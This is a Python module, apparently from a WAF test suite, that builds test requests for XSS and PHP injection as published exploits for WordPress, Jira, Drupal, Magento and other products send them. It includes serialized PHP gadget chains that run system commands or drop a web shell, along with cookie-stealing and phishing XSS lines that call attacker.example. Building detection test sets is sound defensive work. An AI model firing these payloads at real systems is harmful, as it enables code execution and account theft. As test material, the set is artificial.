"""Blind set "hundredtwentyeighth": cross-site scripting and PHP injection as the published exploits for named
products send them, with benign requests in which the same product names, keywords and syntax appear innocently.

The angle: for each family, the request a real exploit for a real product sends (CVE advisories, exploit
write-ups, Metasploit and nuclei-style templates, bug-bounty reports), rewritten from memory: reflected and
stored XSS in WordPress plugins, Drupal, Joomla, Magento, Jira, Confluence, SharePoint, Exchange OWA, GitLab,
Jenkins, Grafana, Kibana, Citrix, FortiOS, Pulse Secure, Nagios, Zimbra, Roundcube, Tomcat, JBoss, WebLogic, Solr
and routers' CGIs; PHP code execution through ThinkPHP, Drupalgeddon2, vBulletin widget_php, phpMyAdmin, Laravel
Ignition, PHPUnit eval-stdin, PHP-CGI, PHP-FPM (PHP_VALUE), the PHP 8.1.0-dev backdoor, Joomla, SugarCRM, SPIP,
GLPI, Craft CMS, Magento, Moodle and the file managers and upload plugins of WordPress and Joomla. Each list's
comment names its product and vulnerability class (a CVE id only where the author is sure of it); each entry
carries the product's path and parameter name, so the "rs-" copy is the exploit's own request.

Families (the `sub` of each record):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector, javascript-uri, html-injection, svg-mathml,
    css-expression, dom-sink (template literals, JSONP callbacks, inline-script breakouts), ie-filter,
    encoded-entity, client-template (AngularJS, Vue, Knockout, Alpine)
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection (O:, a:, C:,
    built here with correct lengths), php-config-directives (PHP-CGI -d, PHP_VALUE, .htaccess, .user.ini),
    superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, a parameter name, an XML body, a multipart
field, the URL path, the admin import's multipart filename), under the product's own parameter name; once the way
the exploit or a WAF regression suite sends it (placements prefixed "rs-"): to the product's path (not our
routes) under its parameter name, as a query string, form body, JSON body, XML body, a raw form-typed body, a
header or a cookie. Exploits that are a whole query string or form body (ThinkPHP, Drupalgeddon2, vBulletin,
GLPI, Craft CMS) go raw; PHP-CGI arguments go as the bare query string; PHP_VALUE lines go in the path; SVG files
go as the XML body; uploads go as multipart filenames and .htaccess / .user.ini as uploaded file contents;
header-borne exploits (Joomla's session User-Agent, the zerodium backdoor, PHPStudy's Accept-Charset, ECShop's
Referer) go in their header.

Authorship and independence: written for this repository from general knowledge of the products' published
exploits and the family titles alone; no WAF rule, engine source, ruleset regression test or public payload list
was read. Serialized PHP objects are built here member by member so every length is right. Measured once on
unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
import re
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import COOKIE_SAFE, FORM, BlindSet, request
from .family_gen import _get, _json
from .records import print_records

NAME = "hundredtwentyeighth"


def _b64(raw: bytes | str) -> str:
    return base64.b64encode(raw.encode() if isinstance(raw, str) else raw).decode()


# ----------------------------------------------------------------------------------------------------------------
# PHP serialization (the format of serialize()): strings, arrays, objects, with byte-exact lengths
def _s(text: str) -> str:
    return f's:{len(text.encode())}:"{text}";'


def _arr(*items: tuple[str, str]) -> str:
    return f"a:{len(items)}:{{" + "".join(k + v for k, v in items) + "}"


def _obj(cls: str, *members: tuple[str, str]) -> str:
    return f'O:{len(cls)}:"{cls}":{len(members)}:{{' + "".join(_s(k) + v for k, v in members) + "}"


def _custom(cls: str, inner: str) -> str:
    """The C: format of classes implementing Serializable (ArrayObject, ArrayIterator, SplObjectStorage)."""
    return f'C:{len(cls)}:"{cls}":{len(inner.encode())}:{{{inner}}}'


P0 = "\0*\0"   # a protected member's prefix
B1, B0, NUL = "b:1;", "b:0;", "N;"

# phpggc Laravel/RCE1 (Illuminate PendingBroadcast -> Faker Generator)
LARAVEL_RCE1 = _obj("Illuminate\\Broadcasting\\PendingBroadcast",
                    (P0 + "events", _obj("Faker\\Generator",
                                         (P0 + "formatters", _arr((_s("dispatch"), _s("system")))))),
                    (P0 + "event", _s("id")))
# phpggc Monolog/RCE1 (SyslogUdpHandler -> BufferHandler with processors)
MONOLOG_RCE1 = _obj("Monolog\\Handler\\SyslogUdpHandler", (P0 + "socket", _obj(
    "Monolog\\Handler\\BufferHandler", (P0 + "handler", "r:2;"), (P0 + "bufferSize", "i:-1;"),
    (P0 + "buffer", _arr(("i:0;", _arr(("i:0;", _s("uname -a")), (_s("level"), NUL))))), (P0 + "level", NUL),
    (P0 + "initialized", B1), (P0 + "bufferLimit", "i:-1;"),
    (P0 + "processors", _arr(("i:0;", _s("current")), ("i:1;", _s("system")))))))
FCJ = "\0GuzzleHttp\\Cookie\\FileCookieJar\0"
CJ = "\0GuzzleHttp\\Cookie\\CookieJar\0"
# phpggc Guzzle/FW1 (FileCookieJar writes a cookie value into a file of our choice)
GUZZLE_FW1 = _obj("GuzzleHttp\\Cookie\\FileCookieJar",
                  (FCJ + "filename", _s("/var/www/html/public/c.php")), (FCJ + "storeSessionCookies", B1),
                  (CJ + "cookies", _arr(("i:0;", _obj("GuzzleHttp\\Cookie\\SetCookie", (
                      "\0GuzzleHttp\\Cookie\\SetCookie\0data",
                      _arr((_s("Expires"), "i:1;"), (_s("Discard"), B0),
                           (_s("Value"), _s("<?php system($_GET['c']); ?>")))))))),
                  (CJ + "strictMode", NUL))
# phpggc Yii/RCE1 (BatchQueryResult -> Faker Generator -> CreateAction::run)
YII_RCE1 = _obj("yii\\db\\BatchQueryResult", ("\0yii\\db\\BatchQueryResult\0_dataReader", _obj(
    "Faker\\Generator", (P0 + "formatters", _arr((_s("close"), _arr(
        ("i:0;", _obj("yii\\rest\\CreateAction", ("checkAccess", _s("system")), ("id", _s("id")))),
        ("i:1;", _s("run")))))))))
TAA = "\0Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter\0"
PXA = "\0Symfony\\Component\\Cache\\Adapter\\ProxyAdapter\0"
# phpggc Symfony/RCE4 (TagAwareAdapter -> ProxyAdapter setInnerItem)
SYMFONY_RCE4 = _obj("Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter",
                    (TAA + "deferred", _arr(("i:0;", _obj("Symfony\\Component\\Cache\\CacheItem",
                                                          (P0 + "poolHash", "i:1;"), (P0 + "innerItem", _s("id")))))),
                    (TAA + "pool", _obj("Symfony\\Component\\Cache\\Adapter\\ProxyAdapter",
                                        (PXA + "poolHash", "i:1;"), (PXA + "setInnerItem", _s("system")))))
FNS = "\0GuzzleHttp\\Psr7\\FnStream\0"
HST = "\0GuzzleHttp\\HandlerStack\0"
# Drupal 8 REST (CVE-2019-6340): GuzzleHttp FnStream -> HandlerStack::resolve
DRUPAL_FNSTREAM = _obj("GuzzleHttp\\Psr7\\FnStream", (FNS + "methods", _arr((_s("close"), _arr(
    ("i:0;", _obj("GuzzleHttp\\HandlerStack", (HST + "handler", _s("id")),
                  (HST + "stack", _arr(("i:0;", _arr(("i:0;", _s("system")))))), (HST + "cached", B0))),
    ("i:1;", _s("resolve")))))), ("_fn_close", _arr(("i:0;", "r:4;"), ("i:1;", _s("resolve")))))
# vBulletin 5.1 decodeArguments (CVE-2015-7808): vB_dB_Result -> vB_Database_MySQL functions -> assert
VB_RESULT = _obj("vB_dB_Result", (P0 + "db", _obj("vB_Database_MySQL", ("functions", _arr(
    (_s("free_result"), _s("assert")))))), (P0 + "recordset", _s("print_r(system('id'));exit;")))
# ThinkPHP 5.x: Windows pipes __destruct -> Pivot __toString -> withAttr callback
TP_WINDOWS = _obj("think\\process\\pipes\\Windows", ("\0think\\process\\pipes\\Windows\0files", _arr(("i:0;", _obj(
    "think\\model\\Pivot", ("\0think\\Model\0data", _arr((_s("x"), _s("id")))),
    ("\0think\\Model\0withAttr", _arr((_s("x"), _s("system")))))))))
# Zend Framework 1 Zend_Http_Response_Stream (file delete on __destruct), e.g. Magento 1
ZEND_FD1 = _obj("Zend_Http_Response_Stream", (P0 + "cleanup", B1),
                (P0 + "stream_name", _s("/var/www/html/app/etc/local.xml")))
# WordPress core Requests_Utility_FilteredIterator (C: format, callback on iteration)
WP_FILTERED = _custom("Requests_Utility_FilteredIterator",
                      "x:i:0;" + _arr(("i:0;", _s("id"))) + ";m:" + _arr((_s(P0 + "callback"), _s("system"))))
JOOMLA_FEED = "eval(base64_decode($_POST[111]));JFactory::getConfig();exit"
JOOMLA_FEED2 = "system('id');JFactory::getConfig();exit"


def _joomla_8562(feed_url: str) -> str:
    """Joomla 1.5-3.4 session object injection (CVE-2015-8562): the stored User-Agent, `\\0\\0\\0` as Joomla
    writes protected members (three bytes once it unescapes them, hence the lengths)."""
    return ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnect'
            'Handlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed'
            f'_url";{_s(feed_url)}s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache_class";O:20:"J'
            'DatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}')


SUGAR_STORE = "<?php eval(base64_decode($_POST['c'])); ?>"
# SugarCRM CE 6.5 REST (property count above the real one skips __wakeup; S: strings take \00 escapes)
SUGAR_REST = ('O:+14:"SugarCacheFile":23:{S:17:"\\00*\\00_cacheFileName";s:15:"../custom/1.php";S:16:"\\00*\\00_cache'
              'Changed";b:1;S:14:"\\00*\\00_localStore";a:1:{i:0;' + _s(SUGAR_STORE) + "}}")
# phpMyAdmin 2.11 / 3.0 setup.php configuration injection (CVE-2009-1151)
PMA_SETUP = _arr((_s("Servers"), _arr(("i:0;", _arr(
    (_s("host']='';system($_GET['c']);//"), _s("localhost")), (_s("extension"), _s("mysqli")),
    (_s("connect_type"), _s("tcp")), (_s("compress"), B0), (_s("auth_type"), _s("config")),
    (_s("user"), _s("root")))))))
ECSHOP_SQL = ("*/ union select 1,0x272f2a,3,4,5,6,7,8,0x"
              + b"{$asd'];assert(base64_decode('cGhwaW5mbygpOw=='));//}xxx".hex() + ",10-- -")
# ECShop 2.x / 3.x user.php Referer (serialized array -> SQL -> template eval)
ECSHOP_REFERER = "554fcae493e564ee0dc75bdf2ebf94caads|" + _arr((_s("num"), _s(ECSHOP_SQL)), (_s("id"), _s("'/*")))
# Invision Power Board 3.3.4 member cookie (db_driver_mysql debug log written as PHP)
IPB_COOKIE = _arr(("i:0;", _obj("db_driver_mysql", ("obj", _arr((_s("use_debug_log"), "i:1;"),
                                                               (_s("debug_log"), _s("cache/sh.php")))))))
PMA_FIND = "0/e\0"

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is (product path, parameter name, payload) or (path, parameter, payload, real placement,
# rs placement) when the exploit only works in one kind of place.
Entry = tuple[str, str, str] | tuple[str, str, str, str, str]
WP_AJAX = "/wp-admin/admin-ajax.php"
JSON_B = ("json-body", "rs-json-body")
XML_B = ("xml", "rs-xml")
FORM_RAW = ("form-raw", "rs-form-raw")
QUERY_RAW = ("query-raw", "rs-query-raw")
ARGV = ("query-argv", "rs-query-argv")
PATH = ("path", "rs-path")
UPLOAD = ("multipart-filename", "rs-multipart-filename")
CONTENT = ("multipart-content", "rs-multipart-content")
FIELD = ("multipart-field", "rs-multipart-field")

# --- xss -------------------------------------------------------------------------------------------------------
# The browser, through reflected / stored XSS in the product named: the short probes scanners and templates send
# first (libinjection's territory: tag, attribute, value breakouts)
XSS_PROBES: list[Entry] = [
    ("/index.php?option=com_content&view=article", "id", "1\"><img src=x onerror=prompt(1)>"),
    ("/wp-admin/admin.php", "page", "'><svg onload=confirm(1)>"),
    ("/secure/Dashboard.jspa", "selectPageId", "\"><body onload=alert(1)>"),
    ("/catalogsearch/result/", "q", "\"><img src=1 onerror=alert(1)>"),
    ("/nagios/cgi-bin/history.cgi", "host", "<img src=a onerror=alert(1)>"),
    ("/search/node", "keys", "'\"--><svg/onload=alert(1)>"),
    ("/dosearchsite.action", "queryString", "x\"><svg/onload=alert(document.domain)>"),
    ("/owa/auth/logon.aspx", "replaceCurrent", "1\"><img/src/onerror=alert(1)>"),
    ("/phpmyadmin/index.php", "target", "\"><script>alert(1)</script>.php"),
    ("/solr/select", "q", "<img src=x onerror=alert(document.domain)>"),
    ("/vpn/index.html", "NSC_USER", "'><img src=x onerror=alert(1)>"),
    ("/remote/login", "lang", "'\"><svg onload=alert(document.cookie)>"),
    ("/dana-na/auth/url_default/welcome.cgi", "p", "\"><svg onload=alert(1)//"),
    ("/jenkins/search/", "q", "'><details open ontoggle=alert(1)>"),
    ("/zabbix/zabbix.php?action=search", "search", "\"><iframe src=javascript:alert(1)>"),
    ("/cgi-bin/luci", "luci_username", "\"/><svg/onload=prompt(document.domain)>"),
    ("/doc/page/login.asp", "_", "'\"><img src onerror=alert(1)>"),
    ("/index.php?route=product/search", "search", "1'\"()&%<acx><ScRiPt>prompt(1)</ScRiPt>"),
    ("/roundcube/", "_user", "\"onmouseover=alert(1) a=\""),
    ("/gitlab/search", "search", "<x onclick=alert(1)>click"),
]
# The browser: script elements reflected by Citrix ADC (CVE-2023-24488), Tomcat examples, Magento search, Jira,
# Nagios, WordPress, Joomla, phpMyAdmin, Drupal, OWA, JBoss jmx-console, Pulse Secure, SharePoint, GitLab,
# Jenkins, FortiOS, Solr admin, Tomcat host-manager, WebLogic UDDI, D-Link CGI, Zimbra, Roundcube
XSS_SCRIPT: list[Entry] = [
    ("/oauth/idp/logout", "post_logout_redirect_uri", "\r\n\r\n<script>alert(document.domain)</script>"),
    ("/examples/servlets/servlet/RequestParamExample", "firstname", "<script>alert(document.cookie)</script>"),
    ("/catalogsearch/result/", "q", "<script>alert('magento')</script>"),
    ("/secure/QuickSearch.jspa", "searchString", "\"><script>alert(1)</script>"),
    ("/nagios/cgi-bin/status.cgi", "host", "<script>alert(String.fromCharCode(88,83,83))</script>"),
    ("/", "s", "</title><script>alert(/wordpress/)</script>"),
    ("/index.php?option=com_search", "searchword", "'\"><script>confirm(document.cookie)</script>"),
    ("/phpmyadmin/index.php", "db", "';</script><script>alert(document.domain)</script>"),
    ("/search/node", "keys", "<script src=//xss.attacker.example/d.js></script>"),
    ("/owa/auth/logon.aspx", "url", "\"><script>location='//attacker.example/c?'+document.cookie</script>"),
    ("/jmx-console/HtmlAdaptor?action=inspectMBean", "name", "jboss.system:type=Server<script>alert(1)</script>"),
    ("/dana/home/cts_get_ica.cgi?bm_id=x&vdi=1", "appname",
     "aa\r\nContent-Type::text/html\r\nContent-length:25\r\n\r\n<script>alert(1)</script>"),
    ("/_layouts/15/Picker.aspx", "PickerDialogType", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("/api/v4/projects/1/issues", "description", "<script type=module>import('//attacker.example/x.js')</script>"),
    ("/search/", "q", "<script>new Image().src='//attacker.example/?'+document.cookie</script>"),
    ("/remote/error", "errmsg", "--><script>alert(1)</script>"),
    ("/solr/admin/cores?action=CREATE", "name", "<script>alert(document.domain)</script>"),
    ("/host-manager/html/add", "name", "<script>document.write(document.cookie)</script>"),
    ("/uddiexplorer/SetupUDDIExplorer.jsp", "privateregistry", "</textarea><script>alert(1)</script>"),
    ("/cgi-bin/webproc?getpage=html/index.html", "errorpage", "x<script>alert(document.cookie)//"),
    ("/h/search", "sq", "<script>alert`1`</script>"),
    ("/?_task=mail&_action=compose", "_to", "<script>alert(1)</script>"),
    ("/wp-admin/options-general.php", "page", "<script src=data:,alert(1)></script>"),
]
# The browser: event handlers stored or reflected by WordPress plugins (WPForms, WP Statistics' stored
# User-Agent), WordPress comments, Jira, Confluence, Zabbix, Nagios XI, vBulletin, MediaWiki, Moodle, Joomla,
# Drupal, OpenCart, Magento, Jenkins, Gitea, SuiteCRM, SquirrelMail, Cacti, Yii, GLPI, MantisBT
XSS_EVENT: list[Entry] = [
    (WP_AJAX + "?action=wpforms_submit", "wpforms[fields][1]", "<img src=x onerror=alert(document.cookie)>"),
    ("/wp-comments-post.php", "comment", "<a title=\"x\" onmouseover=\"alert(1)\" href=\"#\">hover</a>"),
    ("/secure/ViewProfile.jspa", "name", "\"><img src=x onerror=alert(document.domain)>"),
    ("/dosearchsite.action", "where", "\"><body onload=alert(document.domain)>"),
    ("/zabbix.php?action=problem.view", "filter_name", "<details open ontoggle=alert(1)>"),
    ("/nagiosxi/includes/components/xicore/status.php?show=hostdetail", "host", "<video><source onerror=alert(1)>"),
    ("/search.php?do=process", "query", "<input autofocus onfocus=alert(1)>"),
    ("/index.php?title=Special:Search", "search", "<marquee onstart=alert(1)>"),
    ("/login/index.php", "username", "\" onmouseover=\"alert(1)"),
    ("/administrator/index.php?option=com_content&view=articles", "filter[search]", "' autofocus onfocus='alert(1)"),
    ("/user/login", "name", "<select autofocus onfocus=alert(1)>"),
    ("/index.php?route=account/register", "firstname", "<textarea autofocus onfocus=alert(1)>"),
    ("/customer/account/createpost/", "lastname", "<audio src=x onerror=alert(document.domain)>"),
    ("/job/test/submitDescription", "description", "<div onpointerover=alert(1)>hover</div>"),
    ("/", "wp-statistics-ua", "<img src=1 onerror=this.src='//attacker.example/?'+document.cookie>",
     "header:User-Agent", "rs-header:User-Agent"),
    ("/index.php?module=Users&action=Authenticate", "user_name", "<object data=x onerror=alert(1)>"),
    ("/src/compose.php", "send_to", "<img src=x:x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>"),
    ("/graph_view.php?action=tree", "filter",
     "<xss oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>"),
    ("/index.php?r=site/login", "LoginForm[username]",
     "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>go</button>"),
    ("/front/ticket.form.php", "name", "<style onload=alert(1)></style>"),
    ("/view_all_bug_page.php", "search", "<body onresize=alert(1)>"),
    ("/user/settings", "full_name", "<iframe onload=alert(document.domain)>"),
]
# The browser: breakouts into src / href / style / formaction / srcdoc attributes in Jira filters, Confluence,
# SharePoint, Magento contact, Drupal, Joomla, GitLab wiki, Jenkins, vBulletin, phpMyAdmin, Elementor, Nagios,
# Grafana, Zimbra, Tomcat manager, Roundcube, WebLogic console, FortiOS, TP-Link
XSS_ATTR: list[Entry] = [
    ("/secure/ManageFilters.jspa?filterView=search&Search=Search", "searchName",
     "\"><a href=\"javascript:alert(document.domain)\">x</a>"),
    ("/pages/createpage.action?spaceKey=DS", "title",
     "<form><button formaction=javascript:alert(1)>Save</button></form>"),
    ("/_layouts/15/start.aspx", "Source",
     "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)"),
    ("/contact/index/post/", "comment", "<isindex action=javascript:alert(1) type=submit>"),
    ("/node/add/article", "body[0][value]", "<form action=javascript:alert(1)><input type=submit value=Login></form>"),
    ("/index.php?option=com_users&view=login", "username",
     "<button form=login-form formaction=javascript:alert(1)>Log in</button>"),
    ("/-/wikis", "content", "<a href=\"data:text/html;base64," + _b64("<script>alert(document.domain)</script>")
     + "\">docs</a>"),
    ("/job/test/submitDescription", "description", "<iframe src=\"javascript:alert(document.cookie)\"></iframe>"),
    ("/newreply.php?do=postreply", "message", "<embed src=javascript:alert(1)>"),
    ("/phpmyadmin/tbl_structure.php", "field", "<object data=javascript:alert(1)>"),
    (WP_AJAX + "?action=elementor_ajax", "title", "<div style=\"background-image:url(javascript:alert(1))\">x</div>"),
    ("/nagios/cgi-bin/extinfo.cgi?type=1", "host", "<a href=\"jav&#x09;ascript:alert(1)\">host</a>"),
    ("/api/dashboards/db", "title", "<iframe srcdoc=\"&lt;script&gt;alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("/zimbra/h/search", "sfi", "\"><input type=hidden accesskey=X onclick=alert(1)>"),
    ("/manager/html/sessions", "path",
     "\"><a href=//attacker.example/ style=display:block;font-size:99px>Session expired - log in</a>"),
    ("/?_task=mail&_action=compose", "_body", "<a href=\"  javascript:alert(1)\">open</a>"),
    ("/console/login/LoginForm.jsp", "j_username", "\" src=x onerror=\"alert(1)"),
    ("/remote/logincheck", "magic", "\"><video poster=javascript:alert(1)//></video>"),
    ("/userRpm/WlanNetworkRpm.htm", "ssid1", "\"><table background=\"javascript:alert(1)\">"),
    ("/index.php/apps/files", "dir", "\" href=\"javascript:alert(1)\" x=\""),
    ("/admin/settings/general", "site_url", "' style='animation-name:x' onanimationstart='alert(1)"),
]
# The browser: javascript: (and data:, vbscript:) URIs in redirect and link parameters: FortiOS SSL-VPN
# loginredir, Keycloak, WordPress, Grafana, Drupal, Jira, Confluence, SharePoint, phpMyAdmin url.php, GitLab
# markdown, Jenkins, Moodle LTI, vBulletin, Joomla (base64 return), Nextcloud, Zimbra, Gitea, Roundcube,
# SuiteCRM, Zabbix
XSS_JSURI: list[Entry] = [
    ("/remote/loginredir", "redir", "javascript:alert(document.domain)"),
    ("/auth/realms/master/protocol/openid-connect/auth?client_id=account&response_type=code", "redirect_uri",
     "javascript:alert(document.cookie)"),
    ("/wp-login.php", "redirect_to", "JaVaScRiPt:alert(document.domain)"),
    ("/login", "redirect", "javascript://%0aalert(document.domain)"),
    ("/user/login", "destination", "javascript:fetch('//attacker.example/'+document.cookie)"),
    ("/login.jsp", "os_destination", "java\tscript:alert(1)"),
    ("/login.action", "os_destination", "javascript&colon;alert(1)"),
    ("/_layouts/15/SignOut.aspx", "Source", "javascript:eval('al'+'ert(1)')"),
    ("/phpmyadmin/url.php", "url", "javascript:top['al'+'ert'](document.cookie)"),
    ("/api/v4/projects/1/issues", "description", "[docs](javascript:alert(document.domain))"),
    ("/securityRealm/commenceLogin", "from", "javascript:alert(1)//"),
    ("/mod/lti/auth.php", "redirect_uri", " javascript:alert(1)"),
    ("/redirector.php", "url", "javascript:void(document.location='//attacker.example/?'+document.cookie)"),
    ("/index.php?option=com_users&task=user.login", "return", _b64("javascript:alert(document.domain)")),
    ("/index.php/login", "redirect_url",
     "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
    ("/zimbra/public/login.jsp", "redirectUrl", "vbscript:msgbox(document.cookie)"),
    ("/user/login", "redirect_to", "data:text/html;charset=utf-8,<script>alert(document.domain)</script>"),
    ("/?_task=login", "_url", "javascript:%61lert(1)"),
    ("/index.php?module=Home&action=index", "return_url", "javascript:window.onerror=alert;throw 1"),
    ("/index.php", "request", "javascript:setTimeout`alert\\x28document.domain\\x29`"),
    ("/wp-admin/admin.php?page=redirection.php", "url", "javascript:alert(1)/*https://example.com*/"),
]
# The browser: HTML injection (phishing frames, meta refresh, base, object / embed, forms, dangling markup,
# DOMPurify mutation) in Roundcube and Zimbra mail, Confluence, Jira, WordPress, Drupal, Magento CMS blocks,
# GitLab, SharePoint, vBulletin, Joomla, Nextcloud Talk, Grafana text panels, MediaWiki, phpBB, OWA, Contact Form 7
XSS_HTML: list[Entry] = [
    ("/?_task=mail&_action=send", "_message",
     "<iframe src=//attacker.example/phish.html width=100% height=100% frameborder=0></iframe>"),
    ("/service/soap/SendMsgRequest", "content", "<meta http-equiv=refresh content=\"0;url=//attacker.example/login\">"),
    ("/pages/doeditpage.action", "wysiwygContent", "<base href=\"//attacker.example/\">"),
    ("/rest/api/2/issue/PROJ-1/comment", "body",
     "<form action=//attacker.example/steal method=post><p>Session expired</p><input name=os_password "
     "type=password><input type=submit></form>"),
    ("/wp-comments-post.php", "comment", "<object data=\"//attacker.example/x.swf\" "
     "type=\"application/x-shockwave-flash\"><param name=allowscriptaccess value=always></object>"),
    ("/comment/reply/1", "comment_body[0][value]", "<embed src=//attacker.example/x.swf allowscriptaccess=always>"),
    ("/admin/cms/block/save/", "content", "<link rel=stylesheet href=//attacker.example/skim.css>"),
    ("/api/v4/projects/1/wikis", "content", "<img src='//attacker.example/log?html="),
    ("/_api/web/lists/getbytitle('Announcements')/items", "Body",
     "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("/private.php?do=insertpm", "message", "<frameset onload=alert(1)><frame src=//attacker.example/>"),
    ("/index.php?option=com_contact&view=contact&id=1", "jform[contact_message]",
     "<applet code=\"Evil.class\" codebase=\"//attacker.example/\"></applet>"),
    ("/ocs/v2.php/apps/spreed/api/v1/chat/abc", "message", "<portal src=//attacker.example/></portal>"),
    ("/api/dashboards/db", "content", "<object data=\"data:text/html;base64,"
     + _b64("<script>alert(1)</script>") + "\"></object>"),
    ("/api.php?action=edit", "text", "<embed src=\"data:image/svg+xml;base64,"
     + _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') + "\">"),
    ("/rest/api/2/issue/PROJ-2/comment", "body", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("/posting.php?mode=reply&f=2&t=1", "message", "<iframe src=\"https://attacker.example/login\" style=\"position:"
     "fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:9999\"></iframe>"),
    ("/owa/service.svc?action=CreateItem", "Body",
     "<base target=_blank href=//attacker.example/><a href=inbox>Open your inbox</a>"),
    ("/wp-json/contact-form-7/v1/contact-forms/5/feedback", "your-message",
     "<a href=https://attacker.example/reset>Your mailbox is full. Click here to verify your account</a>"),
    ("/web/guest/search", "_3_keywords", "<link rel=import href=//attacker.example/x.html>"),
    ("/index.php?option=com_k2&view=item&task=save", "text",
     "<iframe src=\"data:text/html,%3Cscript%3Ealert(document.domain)%3C/script%3E\"></iframe>"),
    ("/mailman/admin/list", "info", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">"),
]
SVG_TRIANGLE = ('<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg version="1.1" baseProfile="full" '
                'xmlns="http://www.w3.org/2000/svg"><polygon id="triangle" points="0,0 0,50 50,0" fill="#009900" '
                'stroke="#004400"/><script type="text/javascript">alert(document.domain);</script></svg>')
# The browser: SVG and MathML (FortiOS /message, SVG uploads to Roundcube, WordPress SVG Support, Nextcloud,
# SharePoint; Grafana, Jira, GitLab, Zimbra, Confluence, phpMyAdmin, MediaWiki, Moodle, Drupal, Magento,
# Kibana, Gitea, Jenkins, OpenWrt LuCI)
XSS_SVG: list[Entry] = [
    ("/message?title=x", "msg", "&#<svg/onload=alert(1)>"),
    ("/?_task=mail&_action=upload", "_attachments",
     '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>', *XML_B),
    ("/wp-admin/async-upload.php", "async-upload",
     '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>', *XML_B),
    ("/d/x", "var-host", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("/remote.php/dav/files/admin/x.svg", "file",
     '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:'
     'alert(1)"><rect width="100" height="100"/></a></svg>', *XML_B),
    ("/secure/QuickSearch.jspa", "searchString", "<svg><set onbegin=alert(1) attributeName=x to=1>"),
    ("/api/v4/projects/1/issues", "description",
     "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>"),
    ("/zimbra/h/search", "st",
     "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("/rest/api/content", "value", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("/phpmyadmin/db_structure.php", "db", "<svg/onload=alert(document.domain)>"),
    ("/index.php?action=edit&title=Main_Page", "wpTextbox1",
     "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>"),
    ("/question/question.php", "questiontext[text]", "<math href=\"javascript:alert(1)\">CLICK</math>"),
    ("/node/add/page", "body[0][value]", "<svg><discard onbegin=alert(1)>"),
    ("/catalogsearch/result/", "q", "<svg><image href=x onerror=alert(document.domain)>"),
    ("/wp-admin/admin-ajax.php?action=upload-attachment", "async-upload",
     '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/'
     '1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject></svg>', *XML_B),
    ("/app/kibana", "query", "<svg><use href=\"data:image/svg+xml;base64,"
     + _b64('<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="alert(1)"/></svg>')
     + "#x\"/></svg>"),
    ("/user/settings", "description", "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">X</mi></math>"),
    ("/job/test/submitDescription", "description", "<svg><script href=data:,alert(document.domain) /></svg>"),
    ("/cgi-bin/luci/admin/system/system", "hostname", "\"><svg onload=alert(1)>"),
    ("/_layouts/15/upload.aspx", "ctl00$PlaceHolderMain$UploadDocumentSection$ctl05$InputFile", SVG_TRIANGLE, *XML_B),
    ("/index.php/apps/theming/ajax/updateStylesheet", "name",
     "<svg><title><a id=\"</title><img src=x onerror=alert(1)>\">"),
]
# The browser (IE 5-7 expression(), Firefox -moz-binding, HTC behaviors, CSS exfiltration): WordPress
# customizer, Confluence look-and-feel, SharePoint, OWA, phpBB, vBulletin style vars, Joomla templates, MyBB
# signatures, theme options of WordPress themes, Magento design config, Jira gadgets
XSS_CSS: list[Entry] = [
    ("/wp-admin/customize.php", "custom_css", "red;}</style><script>alert(1)</script>"),
    ("/admin/lookandfeel.action", "headerBackgroundColor", "#fff;background:url(javascript:alert(1))"),
    ("/_layouts/15/ChangeSiteMasterPage.aspx", "AlternateCssUrl",
     "<div style=\"width:expression(alert(document.cookie))\">"),
    ("/owa/", "body", "<p style=\"x:expr/**/ession(alert(1))\">x</p>"),
